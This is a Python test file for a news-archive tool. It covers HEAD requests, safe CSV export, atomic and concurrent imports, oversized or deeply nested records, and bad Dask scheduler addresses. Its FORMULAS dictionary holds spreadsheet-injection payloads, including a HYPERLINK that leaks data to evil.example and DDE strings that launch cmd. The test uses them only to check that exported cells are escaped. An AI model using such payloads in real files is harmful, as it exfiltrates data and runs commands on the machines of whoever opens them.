"""Hostile or broken input around the archive's edges: CSV cells a spreadsheet would run, imports killed or
run twice at once, records too large or too deep, addresses that are not Dask schedulers, and HEAD
requests to ``newsarchive serve``. Each test shows what a user sees: files, messages, exit codes."""

from __future__ import annotations

import csv
import http.client
import http.server
import io
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from conftest import article, run_cli, write_site

from newsarchive.build import BuildOptions, build
from newsarchive.commands.serve import ServeOptions, start
from newsarchive.data import tables as datasets

TIMEOUT = 60  # seconds: the longest a bounded wait may take on a loaded machine before the test fails


# ---- serve: HEAD answers what GET would ----

def _ask(server_url: str, method: str, path: str) -> tuple[int, dict[str, str], bytes]:
    host, port = server_url.removeprefix("http://").rstrip("/").rsplit(":", 1)
    connection = http.client.HTTPConnection(host, int(port), timeout=TIMEOUT)
    try:
        connection.request(method, path)
        response = connection.getresponse()
        body = response.read()
        headers = {k: v for k, v in response.getheaders() if k.lower() not in ("date", "last-modified")}
        return response.status, headers, body
    finally:
        connection.close()


def test_head_answers_exactly_what_get_would_without_the_body(tmp_path: Path, monkeypatch):
    site = write_site(tmp_path / "site", {
        "2018/03/storm.md": article(title="Storm hits the harbour", slug="storm"),
        "2018/03/ferry.md": article(title="Les tarifs du ferry augmentent", slug="ferry", language="fr"),
    })
    monkeypatch.chdir(site)
    server = start(site, ServeOptions(port=0))
    try:
        output = site / "build"
        bare = next(folder for folder in sorted(output.rglob("*"))
                    if folder.is_dir() and not (folder / "index.html").exists()
                    and not any(part.startswith(".") for part in folder.relative_to(output).parts))
        paths = ["/", "/2018/03/26/storm/", "/.newsarchive", "/2018/.hidden", "/nowhere/",
                 "/" + bare.relative_to(output).as_posix() + "/", "/static/style.css", "/2018"]
        for path in paths:
            got = _ask(server.url, "GET", path)
            head = _ask(server.url, "HEAD", path)
            assert head[:2] == got[:2], path
            assert head[2] == b"", path
        assert _ask(server.url, "HEAD", "/.newsarchive")[0] == 404
        assert _ask(server.url, "HEAD", paths[5])[0] == 404  # a folder without an index is never listed
    finally:
        server.stop()


# ---- CSV export: no cell a spreadsheet would run ----

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "source": "+cmd|' /C calc'!A0",
    "summary": "@SUM(1+1)*cmd|' /C notepad'!A1",
    "author": "-2+3+cmd|' /C explorer'!A0",
}


def test_csv_cells_a_spreadsheet_would_run_start_with_an_apostrophe_and_json_lines_keep_the_text(
        tmp_path: Path):
    site = write_site(tmp_path / "site", {
        "2018/03/2018-03-26-formula.md": article(**{k: json.dumps(v, ensure_ascii=False)
                                                    for k, v in FORMULAS.items() if k != "author"},
                                                 date="2018-03-26T07:45:00+02:00", language="fr",
                                                 author=json.dumps(FORMULAS["author"]),
                                                 tags='["=1+1", "\'@already quoted", "marée"]',
                                                 body="Le texte.\n"),
        "2018/03/2018-03-25-plain.md": article(json.dumps("'Tis the season: ferry fares rise"), "2018-03-25",
                                               "Harbour Gazette", language="en", tags='["-"]'),
    }, "title: Archives du littoral\nbase_url: https://newsarchive.example/\n")
    build(site, BuildOptions(search=False, jobs=1))
    data = site / "build/data"
    raw = (data / "articles-2018.csv").read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(io.StringIO(raw, newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK(" in raw and "'+cmd|" in raw and "'@SUM(" in raw
    assert "'Tis the season" in raw and "''Tis" not in raw  # an apostrophe before plain text stays one
    lines = (data / "articles-2018.jsonl").read_text(encoding="utf-8").splitlines()
    exact = [json.loads(line) for line in lines]
    formula = next(o for o in exact if o["title"].startswith("="))
    assert [formula[k] for k in ("title", "source", "summary")] == \
        [FORMULAS["title"], FORMULAS["source"], FORMULAS["summary"]]
    assert formula["authors"] == [FORMULAS["author"]] and formula["tags"][:2] == ["=1+1", "'@already quoted"]
    back = datasets.from_csv(raw)  # the tables' own reader takes the apostrophes off again
    decoded = [{k: json.loads(v) if k in ("authors", "tags") else v or None for k, v in r.items()}
               for r in back]
    assert decoded == exact
    package = json.loads((data / "datapackage.json").read_text(encoding="utf-8"))
    csv_resource = next(r for r in package["resources"] if r["format"] == "csv")
    assert "apostrophe" in csv_resource["description"] and "formula" in csv_resource["description"]
    assert "apostrophe" in (data / "index.html").read_text(encoding="utf-8")


# ---- import: one at a time, atomic, bounded ----

TITLES = ["Storm closes the harbour road", "Évacuation du quartier du port", "افتتاح سوق السمك الجديد",
          "港の新しい魚市場が開業", "Hafenstraße nach dem Sturm gesperrt", "Ferry fares rise — again"]
SOURCES = ["Harbour Gazette", "Le Courrier du Littoral", "Al-Waha Daily"]


def _record(number: int, **values: object) -> dict:
    return {"title": f"{TITLES[number % len(TITLES)]} ({number})",
            "date": f"2019-{1 + number % 12:02d}-{1 + number % 28:02d}T08:{number % 60:02d}:00+01:00",
            "source": SOURCES[number % len(SOURCES)],
            "url": f"https://news.example/{number}/story?utm_source=rss",
            "text": f"Paragraph one of story {number}.\n\nParagraph two: «quoted», 🌊, 'apostrophes'.",
            **values}


def _jsonl(path: Path, records: list[dict]) -> Path:
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    return path


def _articles(content: Path) -> list[Path]:
    """The article files an editor (and the build) sees: hidden files aside."""
    return sorted(p for p in content.rglob("*") if p.is_file() and p.suffix in (".md", ".txt")
                  and not any(part.startswith(".") for part in p.relative_to(content).parts))


def test_two_imports_of_the_same_file_at_once_write_each_article_once(tmp_path: Path):
    site = write_site(tmp_path / "site", {}, "title: Harbour archive\n")
    feed = _jsonl(tmp_path / "feed.jsonl", [_record(n) for n in range(800)])
    command = [sys.executable, "-m", "newsarchive", "import", str(feed), "--site", str(site)]
    runs = [subprocess.Popen(command, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            for _ in range(2)]
    results = [(run.wait(timeout=300), run.stdout.read(), run.stderr.read()) for run in runs]
    for run in runs:
        run.stdout.close()
        run.stderr.close()
    for code, _out, err in results:
        assert code in (0, 2), err
        assert "Traceback" not in err and "Internal error" not in err
        if code == 2:  # refused at once, with a message saying what to do
            assert err.startswith("Error: another import is running in this archive"), err
            assert "wait for it to finish, then import again" in err
    assert any(code == 0 for code, _out, _err in results)
    files = _articles(site / "content")
    assert len(files) == 800
    urls = [line for f in files for line in f.read_text(encoding="utf-8").splitlines()
            if line.startswith("url:")]
    assert len(set(urls)) == 800
    again = run_cli("import", str(feed), "--site", str(site), cwd=tmp_path)
    assert again.returncode == 0 and "skipped 800 already in the archive" in again.stdout


_KILLED_MID_WRITE = """
import resource, signal, sys
signal.signal(signal.SIGXFSZ, signal.SIG_DFL)  # Python ignores it: here a file too large kills the process
resource.setrlimit(resource.RLIMIT_FSIZE, (BYTES, BYTES))
from newsarchive.cli import main
sys.argv = ["newsarchive", *sys.argv[1:]]
main()
"""


def test_an_import_killed_while_it_writes_leaves_no_partial_article(tmp_path: Path):
    """The kernel kills the import (SIGXFSZ) in the middle of writing the fourth article, a long one, as
    the out-of-memory killer or a power cut would: no cleanup code runs."""
    limit = 1024 * 1024
    site = write_site(tmp_path / "site", {}, "title: Harbour archive\n")
    long_text = "\n\n".join(f"Paragraph {n}: the harbour master's report, «word for word», continues."
                            for n in range(60_000))
    records = [*(_record(n) for n in range(3)), _record(3, text=long_text), _record(4), _record(5)]
    feed = _jsonl(tmp_path / "feed.jsonl", records)
    killed = subprocess.run([sys.executable, "-c", _KILLED_MID_WRITE.replace("BYTES", str(limit)), "import",
                             str(feed), "--site", str(site)], cwd=tmp_path, capture_output=True, text=True,
                            timeout=300, check=False)
    assert killed.returncode == -signal.SIGXFSZ, killed.stderr  # it did die mid-write
    files = _articles(site / "content")
    assert len(files) == 3  # the three written before; nothing of the fourth where the build reads
    assert all(f.read_text(encoding="utf-8").rstrip().endswith("'apostrophes'.") for f in files)
    built = run_cli("build", str(site), cwd=tmp_path)
    assert built.returncode == 0, built.stderr
    again = run_cli("import", str(feed), "--site", str(site), cwd=tmp_path)
    assert again.returncode == 0, again.stderr
    assert "updated" not in again.stdout and "Imported 3 articles" in again.stdout  # no truncated version
    assert not list((site / "content").rglob("*.versions"))
    [long_file] = [f for f in _articles(site / "content") if f.stat().st_size > limit]
    assert long_file.read_text(encoding="utf-8").rstrip().endswith("«word for word», continues.")
    assert run_cli("build", str(site), cwd=tmp_path).returncode == 0


def test_a_replaced_article_is_whole_or_untouched_when_the_write_fails(tmp_path: Path, monkeypatch):
    """Importing a changed record keeps the old text as a version and rewrites the article in one step:
    a crash before the rename leaves the article as it was, and no temporary file where the build reads."""
    from newsarchive.importer import import_file
    from newsarchive.output import atomic_files

    site = write_site(tmp_path / "site", {}, "title: Harbour archive\n")
    import_file(_jsonl(tmp_path / "feed.jsonl", [_record(1)]), site)
    [target] = _articles(site / "content")
    before = target.read_bytes()

    def crash(*_args):
        raise KeyboardInterrupt  # as if the process stopped here

    monkeypatch.setattr(atomic_files.os, "replace", crash)
    with pytest.raises(KeyboardInterrupt):
        import_file(_jsonl(tmp_path / "changed.jsonl", [_record(1, text="A corrected text.")]), site)
    assert target.read_bytes() == before
    assert not [p for p in (site / "content").rglob("*.part")]


def test_a_csv_cell_longer_than_the_csv_modules_limit_stays_one_cell(tmp_path: Path, monkeypatch):
    """The csv module's limit (64 MB here) is made small, so that a cell of a few kilobytes crosses it as a
    70 MB cell would: the cell's lines must never be read as rows of their own."""
    from click.testing import CliRunner

    from newsarchive import cli
    from newsarchive.importer import csvfile

    monkeypatch.setattr(csvfile, "MAX_FIELD", 4096)
    old_limit = csv.field_size_limit(4096)
    try:
        site = write_site(tmp_path / "site", {}, "title: Harbour archive\n")
        inside = "\n".join(f'Faux titre {n},2017-0{1 + n % 9}-1{n % 10},"Faux journal",faux texte'
                           for n in range(200))
        table = tmp_path / "gazette.csv"
        with open(table, "w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle)
            writer.writerow(["title", "date", "source", "text"])
            writer.writerow(["Le long compte rendu du conseil", "2018-03-26", "Le Courrier du Littoral",
                             inside])
            writer.writerow(["افتتاح سوق السمك الجديد", "2018-03-27", "Al-Waha Daily",
                             "افتتح السوق الجديد صباح اليوم."])
        result = CliRunner().invoke(cli.main, ["import", str(table), "--site", str(site)])
    finally:
        csv.field_size_limit(old_limit)
    assert result.exit_code == 0, result.output
    assert "Imported 2 articles" in result.stdout
    files = _articles(site / "content")
    assert len(files) == 2 and not [f for f in files if "faux-titre" in f.name]
    [report] = [f for f in files if "conseil" in f.name]
    assert "Faux titre 199" in report.read_text(encoding="utf-8")


def test_a_record_whose_html_is_nested_too_deep_is_reported_and_the_others_come_in(tmp_path: Path):
    site = write_site(tmp_path / "site", {}, "title: Harbour archive\n")
    deep = "<div>" * 500 + "<p>Le texte, enfin.</p>" + "</div>" * 500
    records = [_record(1), {**_record(2, text=None), "html": deep}, _record(3), _record(4)]
    feed = _jsonl(tmp_path / "feed.jsonl", records)
    result = run_cli("import", str(feed), "--site", str(site), cwd=tmp_path)
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr and "Internal error" not in result.stderr
    assert f"{feed}:2: the HTML is nested too deeply to be converted" in result.stderr
    assert "Imported 3 articles" in result.stdout and "1 bad record(s)" in result.stdout
    assert len(_articles(site / "content")) == 3
    assert run_cli("build", str(site), cwd=tmp_path).returncode == 0


# ---- Dask addresses that are not Dask ----

@contextmanager
def _listener(kind: str) -> Iterator[int]:
    """A loopback listener that is not a Dask scheduler: ``silent`` accepts and never answers, ``http``
    is a web server, ``garbage`` sends random bytes. Yields its port."""
    if kind == "http":
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
        thread = threading.Thread(target=server.serve_forever, args=(0.1,), daemon=True)
        thread.start()
        try:
            yield server.server_address[1]
        finally:
            server.shutdown()
            server.server_close()
        return
    listening = socket.create_server(("127.0.0.1", 0))
    accepted: list[socket.socket] = []
    stop = threading.Event()

    def serve() -> None:
        listening.settimeout(0.2)
        while not stop.is_set():
            try:
                connection, _ = listening.accept()
            except (TimeoutError, OSError):
                continue
            accepted.append(connection)
            if kind == "garbage":
                try:
                    connection.sendall(os.urandom(4096))
                except OSError:
                    pass

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield listening.getsockname()[1]
    finally:
        stop.set()
        thread.join(timeout=5)
        for connection in accepted:
            connection.close()
        listening.close()


def test_an_executor_address_that_is_not_a_dask_scheduler_is_a_plain_message_in_bounded_time(tmp_path: Path):
    site = write_site(tmp_path / "site", {"2018/03/storm.md": article(title="Storm hits the harbour")})
    kinds = ("garbage", "silent", "http")  # the one answered at once first: its time is its own
    with _listener("garbage") as garbage, _listener("silent") as silent, _listener("http") as web:
        started = time.monotonic()
        runs = {kind: subprocess.Popen(
            [sys.executable, "-m", "newsarchive", "build", str(site), "-o", str(tmp_path / f"out-{kind}"),
             "--no-search", "--executor", f"dask://127.0.0.1:{port}"],
            cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            for kind, port in zip(kinds, (garbage, silent, web))}
        results = {}
        for kind, run in runs.items():
            try:
                _out, err = run.communicate(timeout=TIMEOUT)
            except subprocess.TimeoutExpired:
                run.kill()
                run.communicate()
                pytest.fail(f"the build against a {kind} listener still runs after {TIMEOUT} s")
            results[kind] = (run.returncode, err, time.monotonic() - started)
    for kind, (code, err, _seconds) in results.items():
        assert code == 2, (kind, err)
        assert err.startswith("Error: what ") and "Dask scheduler" in err, (kind, err)
        assert "Internal error" not in err and "Traceback" not in err
        assert err.rstrip().endswith("check the address and port `dask scheduler` printed, or build without "
                                     "--executor"), err
        assert len(err.strip().splitlines()) == 1
    assert "said nothing in 10 s" in results["silent"][1] and "said nothing in 10 s" in results["http"][1]
    assert results["garbage"][2] < 10  # refused on its first bytes, without waiting
    assert not (tmp_path / "out-silent").exists()
